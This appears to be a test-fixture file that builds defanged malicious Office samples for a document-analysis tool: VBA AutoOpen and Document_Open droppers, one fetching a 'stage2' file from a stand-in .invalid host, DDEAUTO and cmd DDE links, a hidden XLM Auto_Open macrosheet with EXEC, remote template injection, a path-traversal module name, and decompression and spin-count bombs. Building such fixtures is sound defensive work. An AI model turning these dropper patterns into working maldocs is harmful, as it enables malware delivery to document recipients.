import type { SampleSources } from 'stoq/testing'
import { makeCompound } from './golden/compound-maker.ts'
import {
  agile,
  cryptoApiRc4,
  encryptedDocument,
  encryptRecords,
  filePass,
  makeFib,
  oldRc4,
  rc4Stream,
  standard,
} from './golden/encryption-maker.ts'
import { macroWorkbook } from './golden/macro-workbook.ts'
import { attributes, compress, type MadeModule, makeProject } from './golden/vba-maker.ts'
import { makeWorkbook, u16, u32 } from './golden/workbook-maker.ts'
import { binaryMacroWorkbook } from './golden/xlsb-maker.ts'
import { contentTypes, makeZip, relationships } from './golden/zip-maker.ts'
import { xorBytes, xorVerifier } from './xor-obfuscation.ts'

/** Shapes of droppers that do nothing: the programs and hosts that they name do not exist. */
const autoOpen = `${attributes('Module1')}Sub AutoOpen()
  Dim command As String
  command = "no-such-program.invalid /c " & Chr(104) & "ello"
  Shell command, vbHide
End Sub
`.replaceAll(/\r?\n/g, '\r\n')
const download = `${attributes('ThisDocument')}Attribute VB_Base = "1Normal.ThisDocument"
Private Sub Document_Open()
  Const address = "http://files.example.invalid/stage2.bin"
  CreateObject("MSXML2.XMLHTTP").Open "GET", address, False
End Sub
`.replaceAll(/\r?\n/g, '\r\n')
const form = `${attributes('UserForm1')}Private Sub UserForm_Click()\r\n  Unload Me\r\nEnd Sub\r\n`
const cyrillic = Buffer.concat([
  Buffer.from(attributes('Module1')),
  Buffer.from("' "),
  Buffer.from('cff0e8e2e5f2', 'hex'),
  Buffer.from('\r\nSub Workbook_Open()\r\nEnd Sub\r\n'),
])

const modules: MadeModule[] = [
  { name: 'ThisDocument', source: download, kind: 'cls' },
  { name: 'Module1', source: autoOpen, kind: 'bas' },
  { name: 'UserForm1', source: form, kind: 'frm' },
]
const wordStreams = { WordDocument: makeFib('Please enable content.\r', 0), '1Table': Buffer.alloc(64) }
const macroDocument = makeCompound({ ...wordStreams, ...makeProject(modules, 'Macros/') })
const bareProject = makeCompound(makeProject(modules))

const projectWithoutDir = makeProject(modules, 'Macros/')
const damagedDir = makeCompound({
  ...wordStreams,
  ...projectWithoutDir,
  'Macros/VBA/dir': Buffer.from('no directory at all'),
})
const unlisted = makeCompound({
  ...wordStreams,
  ...makeProject(modules.slice(0, 1), 'Macros/'),
  'Macros/VBA/Hidden': Buffer.concat([Buffer.alloc(40, 'p'), compress(Buffer.from(autoOpen))]),
})
const badHeader = Buffer.from(macroDocument)
badHeader.write('no magic', 0)

/** 12 KB that unfold to 8 MB. */
const bomb = makeCompound({
  ...wordStreams,
  ...makeProject(
    [
      {
        name: 'Bomb',
        source: Buffer.concat([Buffer.from(attributes('Bomb')), Buffer.alloc(2 ** 23, "'")]),
        kind: 'bas',
      },
    ],
    'Macros/',
  ),
})

const workbookFile = makeCompound({ Workbook: macroWorkbook() })

const old = oldRc4('VelvetSweatshop')
const oldPass = filePass(1, old.header)
const encryptedOld = macroWorkbook([oldPass])
const oldKeys = rc4Stream(Buffer.alloc(encryptedOld.length), old, 1024)
const modern = cryptoApiRc4('infected')
const encryptedModern = macroWorkbook([filePass(1, modern.header)])
const modernKeys = rc4Stream(Buffer.alloc(encryptedModern.length), modern, 1024)

const velvet = Buffer.from('VelvetSweatshop')
const mixed = xorBytes(velvet)
const encryptedMixed = macroWorkbook([filePass(0, u16(0, xorVerifier(velvet)))])
const mix = (at: number, size: number) => {
  const byte = encryptedMixed[at] ?? 0
  return (((byte >> 3) | (byte << 5)) & 0xff) ^ (mixed[(at + size) % 16] ?? 0)
}

const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const word = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
const documentRelations = relationships(['officeDocument', 'word/document.xml'])
const wordDocument = (body: string) =>
  `<?xml version="1.0"?><w:document ${word}><w:body>${body}</w:body></w:document>`
const paragraph = '<w:p><w:r><w:t>Please enable content.</w:t></w:r></w:p>'

const macroPackage = (path: string, project: Uint8Array) =>
  makeZip({
    '[Content_Types].xml': contentTypes(),
    '_rels/.rels': documentRelations,
    'word/document.xml': wordDocument(paragraph),
    'word/_rels/document.xml.rels': relationships([
      'http://schemas.microsoft.com/office/2006/relationships/vbaProject',
      path,
    ]),
    [`word/${path}`]: project,
  })

const template = makeZip({
  '[Content_Types].xml': contentTypes(),
  '_rels/.rels': documentRelations,
  'word/document.xml': wordDocument(paragraph),
  'word/_rels/document.xml.rels': relationships(
    ['hyperlink', 'http://www.example.invalid/?a=1&amp;b=2', true],
    [
      'oleObject',
      'mhtml:http://files.example.invalid/x.html!x-usc:http://files.example.invalid/x.html',
      true,
    ],
    ['frame', '\\\\share.example.invalid\\folder\\frame.htm'],
    ['settings', 'settings.xml'],
  ),
  'word/settings.xml': `<w:settings ${word}><w:attachedTemplate r:id="rId1"/></w:settings>`,
  'word/_rels/settings.xml.rels': relationships([
    'attachedTemplate',
    'https://files.example.invalid/template.dotm',
    true,
  ]),
})

const run = (content: string) => `<w:r>${content}</w:r>`
const mark = (type: string) => run(`<w:fldChar w:fldCharType="${type}"/>`)
const code = (text: string) => run(`<w:instrText xml:space="preserve">${text}</w:instrText>`)
const ddeDocument = makeZip({
  '[Content_Types].xml': contentTypes(),
  '_rels/.rels': documentRelations,
  'word/document.xml': wordDocument(
    `<w:p>${mark('begin')}${code(' DD')}${code('EAUTO ')}${mark('begin')}${code(' QUOTE 99 58 92 ')}${mark('separate')}${run('<w:t>shown</w:t>')}${mark('end')}${code('no-such-program.invalid &quot;/k nothing&quot; ')}${mark('separate')}${run('<w:t>!Unexpected</w:t>')}${mark('end')}</w:p>` +
      `<w:p><w:fldSimple w:instr=" PAGE "/><w:fldSimple w:instr='INCLUDEPICTURE "http://files.example.invalid/p.png"'/></w:p>`,
  ),
})
const ddeWorkbook = makeZip({
  '[Content_Types].xml': contentTypes(),
  '_rels/.rels': relationships(['officeDocument', 'xl/workbook.xml']),
  'xl/workbook.xml': '<workbook/>',
  'xl/externalLinks/externalLink1.xml':
    '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c nothing.here"/></externalLink>',
})
const controls = makeZip({
  '[Content_Types].xml': contentTypes(),
  '_rels/.rels': documentRelations,
  'word/document.xml': wordDocument(paragraph),
  'word/activeX/activeX1.xml': `<ax:ocx ax:classid="{8856F961-340A-11D0-A96B-00C04FD705A2}" ax:persistence="persistPropertyBag" xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"/>`,
  'word/settings.xml': `<w:settings ${word}><w:docVars><w:docVar w:name="payload" w:val="aGVsbG8="/></w:docVars></w:settings>`,
  'docProps/custom.xml':
    '<Properties><property name="key"><vt:lpwstr>value &amp; more</vt:lpwstr></property></Properties>',
})

const macroSheetType = 'http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet'
const xmlMacros = makeZip({
  '[Content_Types].xml': contentTypes(),
  '_rels/.rels': relationships(['officeDocument', 'xl/workbook.xml']),
  'xl/workbook.xml': `<workbook xmlns:r="${office}"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/><sheet name="Macro1" sheetId="2" state="veryHidden" r:id="rId2"/></sheets><definedNames><definedName name="_xlnm.Auto_Open" hidden="1">Macro1!$A$1</definedName></definedNames></workbook>`,
  'xl/_rels/workbook.xml.rels': relationships(
    ['worksheet', 'worksheets/sheet1.xml'],
    [macroSheetType, 'macrosheets/sheet1.xml'],
    ['sharedStrings', 'sharedStrings.xml'],
  ),
  'xl/worksheets/sheet1.xml': '<worksheet/>',
  'xl/sharedStrings.xml': '<sst><si><t>shared </t><r><t>text</t></r></si></sst>',
  'xl/macrosheets/sheet1.xml':
    '<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData><row r="1"><c r="A1" t="str"><f>EXEC("no-such-program.invalid "&amp;B1)</f><v>0</v></c><c r="B1" t="s"><v>0</v></c></row><row r="2"><c r="A2"><f>HALT()</f><v>1</v></c></row></sheetData></xm:macrosheet>',
})

const content = macroPackage('vbaProject.bin', bareProject)
const agileFile = agile(content, 'VelvetSweatshop', 1000)
const spinBomb = Buffer.from(
  agileFile.toString('latin1').replace('spinCount="1000"', 'spinCount="9e15"'),
  'latin1',
)

const powerPoint = (compressed: Uint8Array, isCompressed: boolean) => {
  const header = (version: number, type: number, size: number) =>
    Buffer.concat([u16(version, type), u32(size)])
  const data = isCompressed ? Buffer.concat([u32(bareProject.length), compressed]) : compressed
  const atom = Buffer.concat([header(isCompressed ? 0x10 : 0, 0x1011, data.length), data])
  return makeCompound({
    'PowerPoint Document': Buffer.concat([header(0x0f, 1000, 8), header(0, 1001, 0), atom]),
  })
}

/**
 * Golden samples. What looks like a macro or a dropper is stored masked. `agile-of-another-program.xlsx`, which is not made
 * here, is a workbook of openpyxl 3.1 that msoffcrypto-tool 6.1 encrypted with the password `infected`.
 */
export const samples: SampleSources = {
  'macro.doc.masked': macroDocument,
  'macro.docm.masked': content,
  'renamed-project.docm.masked': macroPackage('editdata.bin', bareProject),
  'vbaProject.bin.masked': bareProject,
  'code-page.xls.masked': makeCompound({
    Workbook: makeWorkbook([{ name: 'Sheet1', records: [] }]),
    ...makeProject([{ name: 'Module1', source: cyrillic, kind: 'bas' }], '_VBA_PROJECT_CUR/', 1251),
  }),
  'names.doc.masked': makeCompound({
    ...wordStreams,
    ...makeProject([{ name: '..\\..\\evil', source: autoOpen, kind: 'bas', stream: 'x' }], 'Macros/'),
  }),
  'unlisted.doc.masked': unlisted,
  'damaged-dir.doc.masked': damagedDir,
  'bad-header.doc.masked': badHeader,
  'cut-at-half.doc.masked': macroDocument.subarray(0, macroDocument.length >> 1),
  'cut-in-header.doc.masked': macroDocument.subarray(0, 300),
  'cut-at-half.docm.masked': content.subarray(0, content.length >> 1),
  'photo.jpg.masked': macroDocument,
  'prefixed.bin.masked': Buffer.concat([Buffer.from('{\\object '.repeat(8)), macroDocument]),
  'bomb.doc.masked': bomb,
  'presentation.ppt.masked': powerPoint(bareProject, false),
  'presentation-damaged.ppt.masked': powerPoint(bareProject, true),
  'xlm.xls.masked': workbookFile,
  'xlm-cut.xls.masked': workbookFile.subarray(0, 1500),
  'xlm.xlsm.masked': xmlMacros,
  'xlm.xlsb.masked': binaryMacroWorkbook(),
  'two-in-one.doc.masked': makeCompound({
    ...wordStreams,
    ...makeProject(modules, 'Macros/'),
    Workbook: macroWorkbook(),
  }),
  'template.docx.masked': template,
  'dde.docx.masked': ddeDocument,
  'dde.xlsx.masked': ddeWorkbook,
  'dde.doc.masked': makeCompound({
    WordDocument: makeFib('A \x13 DDEAUTO "no-such-program.invalid" "/k nothing"\x14!\x15 B', 0),
  }),
  'controls.docx': controls,
  'agile.docx': agileFile,
  'agile-words.docx': {
    content: agile(content, 'Secret 2026!', 1000),
    kwargs: { password_words: ['The', 'password', 'is', 'Secret 2026!'] },
  },
  'agile-given.docx': { content: agile(content, 'given', 1000), kwargs: { archive_passwords: 'one, given' } },
  'agile-locked.docx': agile(content, 'nobody knows', 1000),
  'agile-spin-bomb.docx': spinBomb,
  'agile-cut.docx': agileFile.subarray(0, 3000),
  'standard.xlsx': standard(xmlMacros, 'VelvetSweatshop'),
  'rc4.xls': makeCompound({
    Workbook: encryptRecords(encryptedOld, at => (encryptedOld[at] ?? 0) ^ (oldKeys[at] ?? 0)),
  }),
  'rc4-cryptoapi.xls': makeCompound({
    Workbook: encryptRecords(encryptedModern, at => (encryptedModern[at] ?? 0) ^ (modernKeys[at] ?? 0)),
  }),
  'xor.xls': makeCompound({ Workbook: encryptRecords(encryptedMixed, mix) }),
  'rc4.doc': makeCompound({
    ...encryptedDocument('Text that nobody may read.\r', old),
    Data: rc4Stream(Buffer.alloc(700, 'data '), old, 512),
  }),
  'empty.bin': Buffer.alloc(0),
}
